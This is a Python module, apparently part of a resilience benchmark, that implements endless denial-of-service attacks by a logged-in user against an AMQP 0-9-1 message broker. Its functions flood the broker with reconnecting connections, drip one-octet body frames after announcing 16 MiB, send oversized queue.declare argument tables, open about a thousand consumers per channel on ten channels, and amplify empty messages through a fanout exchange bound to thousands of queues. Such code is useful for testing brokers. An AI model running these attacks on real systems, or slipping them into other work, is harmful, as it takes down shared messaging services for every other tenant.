"""What somebody who may log in does to everybody else, over AMQP 0-9-1. Each goes on for ever."""

from __future__ import annotations

import struct
import threading
import time

from bench.hostile.target import Target
from bench.wire import BODY, HEADER, Wire, WireError, frame, longstr, method, shortstr

CROWD, CROWDS = 1000, 3
QUEUES, BURST = 3000, 1000
_CLOSE = method(0, 10, 50, struct.pack(">H", 200) + shortstr("") + bytes(4))


def crowd(target: Target) -> None:
    """Thousands of connections, which come again as soon as they are refused."""
    for _ in range(CROWDS):
        threading.Thread(target=_crowd, args=(target,), daemon=True).start()
    _crowd(target)


def _crowd(target: Target) -> None:
    held: list[Wire] = []
    while True:
        try:
            held.append(_logged_in(target))
        except (OSError, WireError):
            time.sleep(0.001)
        target.count.value += 1
        if len(held) > CROWD:
            held.pop(0).close()


def drip(target: Target) -> None:
    """16 MiB announced, and body frames of one octet."""
    head = frame(HEADER, 1, b"\0\x3c\0\0" + struct.pack(">QH", 16 << 20, 0))
    _again(target, _publish("") + head, frame(BODY, 1, b"x") * 10_000)


def tables(target: Target) -> None:
    """queue.declare with as large a table of arguments as is taken, and one that is not."""
    for size in (15 << 10, 100 << 10):
        threading.Thread(target=_tables, args=(target, size), daemon=True).start()
    threading.Event().wait()


def _tables(target: Target, size: int) -> None:
    entries = b"".join(shortstr(f"k{n}") + b"S" + longstr(b"v" * 20) for n in range(size // 32))
    declare = b"\0\0" + shortstr("tables") + b"\x0c" + longstr(entries)
    _again(target, b"", method(1, 50, 10, declare) * 10)


def consumers(target: Target) -> None:
    """A channel's worth of consumers on ten channels of one queue, again and again."""
    declare = method(1, 50, 10, b"\0\0" + shortstr("many") + b"\x10" + longstr(b""))
    opened = b"".join(method(n, 20, 10, shortstr("")) for n in range(2, 11))
    said = b"".join(
        method(channel, 60, 20, b"\0\0" + shortstr("many") + shortstr(f"{n}") + b"\x0a" + longstr(b""))
        for channel in range(1, 11)
        for n in range(999)
    )
    _again(target, declare + opened, said + _CLOSE)


def fanout(target: Target) -> None:
    """Empty messages, a thousand in one write, to an exchange with thousands of queues of its own."""
    declared = b"".join(_bound(f"own{n}", "amq.fanout") for n in range(QUEUES))
    empty = frame(HEADER, 1, b"\0\x3c\0\0" + struct.pack(">QH", 0, 0))
    _again(target, declared, (_publish("amq.fanout") + empty) * BURST)


def _bound(queue: str, exchange: str) -> bytes:
    """A queue of this connection alone, which keeps one message."""
    declare = method(1, 50, 10, b"\0\0" + shortstr(queue) + b"\x14" + longstr(_SHORT))
    bind = b"\0\0" + shortstr(queue) + shortstr(exchange) + shortstr("") + b"\1" + longstr(b"")
    return declare + method(1, 50, 20, bind)


def _publish(exchange: str) -> bytes:
    return method(1, 60, 40, b"\0\0" + shortstr(exchange) + shortstr("nobody") + b"\0")


_SHORT = shortstr("x-max-length") + b"I" + struct.pack(">i", 1)


def _logged_in(target: Target) -> Wire:
    return Wire.open(target.host, target.port, user=target.user, password=target.user, timeout=60)


def _again(target: Target, first: bytes, then: bytes) -> None:
    while True:
        _strike(target, first, then)


def _strike(target: Target, first: bytes, then: bytes) -> None:
    """One connection: what comes first, then the other as often as it is taken."""
    try:
        wire = _logged_in(target)
        threading.Thread(target=_read, args=(wire,), daemon=True).start()
        wire.socket.sendall(first)
        while True:
            wire.socket.sendall(then)
            target.count.value += 1
    except (OSError, WireError):
        time.sleep(0.01)


def _read(wire: Wire) -> None:
    """Whatever is answered."""
    try:
        while wire.socket.recv(1 << 16):
            pass
    except OSError:
        return
